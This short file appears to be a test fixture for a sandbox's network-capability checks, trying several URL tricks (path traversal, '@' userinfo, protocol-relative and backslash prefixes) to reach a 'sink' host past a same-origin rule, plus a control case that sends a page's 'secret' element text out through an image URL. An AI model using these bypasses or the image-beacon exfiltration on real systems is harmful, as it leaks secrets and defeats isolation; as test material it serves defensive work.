//! guest = "tool"
//! promise = "tool-network"
//! capabilities = ["network:fetch:same-origin"]
for (const to of [args.sink + "/x", args.host.replace("localhost", "127.0.0.1") + "/../x", args.host + "@" + args.sink.slice(7), "//" + args.sink.slice(7), "/\\" + args.sink.slice(7)]) await btcp.network.fetch(to).catch(() => {});
return "tried";
// --- control
const picture = new Image();
picture.src = `${stage.sink}/taken?${document.getElementById("secret").textContent}`;
await stage.until(() => picture.complete);
return "sent";
